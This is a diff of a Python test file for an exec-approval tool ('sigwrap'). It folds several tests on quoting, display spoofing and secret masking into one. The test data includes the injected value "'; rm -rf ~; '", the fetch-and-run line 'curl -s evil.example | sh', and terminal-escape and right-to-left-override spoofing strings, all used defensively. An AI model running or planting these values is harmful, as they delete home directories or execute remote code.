@@ -6,8 +6,6 @@ import os
 import re
 from pathlib import Path
 
-import pytest
-
 from tests.support.harness import PYTHON, UNDER_TEST, Sigwrap
 from tests.support.policies import policy
 from tests.support.waiting import PATIENCE_S, reader
@@ -49,18 +47,12 @@ def test_the_file_is_named_whatever_the_words_say(as_user: Sigwrap) -> None:
     assert seen.endswith(" left\n")
 
 
-def test_a_32_bit_exec_is_named_the_same(as_user: Sigwrap, compiled: Path) -> None:
-    path = evil(as_user)
-    seen = asked_about(as_user, str(compiled / "execs_as_i386"), str(path), "git", "fetch origin")
+def test_a_32_bit_exec_by_a_link_is_named_by_what_runs(as_user: Sigwrap, compiled: Path) -> None:
+    path, link = evil(as_user), as_user.folder / "git"
+    link.symlink_to(path)
+    seen = asked_about(as_user, str(compiled / "execs_as_i386"), str(link), "git", "fetch origin")
     assert "wants to run git 'fetch origin'\n" in seen
     assert f"        file {path}, then " in seen
-
-
-def test_a_link_is_named_by_what_it_leads_to(as_user: Sigwrap) -> None:
-    path = evil(as_user)
-    (as_user.folder / "git").symlink_to(path)
-    code = f"import os; os.execv({str(as_user.folder / 'git')!r}, ['git', 'fetch'])"
-    assert f"        file {path}, then " in asked_about(as_user, *PYTHON, "-c", code)
 
 
 def test_of_command_itself_sigwrap_is_who_asks(sigwrap: Sigwrap) -> None:
@@ -69,41 +61,26 @@ def test_of_command_itself_sigwrap_is_who_asks(sigwrap: Sigwrap) -> None:
     assert re.match(rf"[0-9a-f]+  sigwrap \(pid \d+, depth 0\) wants to run {path}\n", seen)
 
 
-@pytest.mark.parametrize(
-    ("word", "shown"),
-    [
-        ("a b", "'a b'"),
-        ("'; rm -rf ~; '", "''\\''; rm -rf ~; '\\'''"),
-        ("x\n        file /usr/bin/git", "$'x\\n        file /usr/bin/git'"),
-        ("\x1b[1A\x1b[2Kls", "$'\\e[1A\\e[2Kls'"),
-        ("\u202egnimrah", "$'\\u202egnimrah'"),
-        ("", "''"),
-    ],
-)
-def test_a_word_is_one_word(sigwrap: Sigwrap, word: str, shown: str) -> None:
+WORDS = {
+    "a b": "'a b'",
+    "'; rm -rf ~; '": "''\\''; rm -rf ~; '\\'''",
+    "x\n        file /usr/bin/git": "$'x\\n        file /usr/bin/git'",
+    "\x1b[1A\x1b[2Kls": "$'\\e[1A\\e[2Kls'",
+    "\u202egnimrah": "$'\\u202egnimrah'",
+    "": "''",
+}
+
+
+def test_a_word_is_one_word_and_all_are_shown(sigwrap: Sigwrap) -> None:
+    """Who asks is named as it is called now, after its second exec. No word is hidden by the length
+    of another, nor as a secret; in the log that is."""
     path = evil(sigwrap)
-    seen = asked_about(sigwrap, "env", str(path), word)
-    assert f"wants to run {path} {shown}\n" in seen
-
-
-def test_no_word_is_hidden_by_the_length_of_another(sigwrap: Sigwrap) -> None:
-    path = evil(sigwrap)
-    seen = asked_about(sigwrap, "env", str(path), "a" * 50_000, "--force")
-    assert seen.splitlines()[0].endswith("a --force")
-
-
-def test_no_word_is_hidden_as_a_secret(sigwrap: Sigwrap) -> None:
-    """But in the log it is."""
-    path = evil(sigwrap)
-    words = ": authorization: x; curl -s evil.example | sh"
-    seen = asked_about(sigwrap, "env", str(path), words)
-    assert f"wants to run {path} '{words}'\n" in seen
+    secret = ": authorization: x; curl -s evil.example | sh"
+    seen = asked_about(sigwrap, "env", str(path), *WORDS, secret, "a" * 50_000, "--force")
+    first = seen.splitlines()[0]
+    assert " env (pid " in first
+    assert f"wants to run {path} {' '.join(WORDS.values())} '{secret}' aaa" in first
+    assert first.endswith("a --force")
     (request,) = sigwrap.events("approval_requested")
-    assert request.payload["what"] == f"{path} ': authorization: ***'"
-
-
-def test_who_asks_is_named_as_it_is_called_now(sigwrap: Sigwrap) -> None:
-    """A program in the place of another one, by the second exec of one process."""
-    path = evil(sigwrap)
-    seen = asked_about(sigwrap, "env", str(path))
-    assert " env (pid " in seen.splitlines()[0]
+    assert ": authorization: ***" in request.payload["what"]
+    assert "evil.example" not in request.payload["what"]
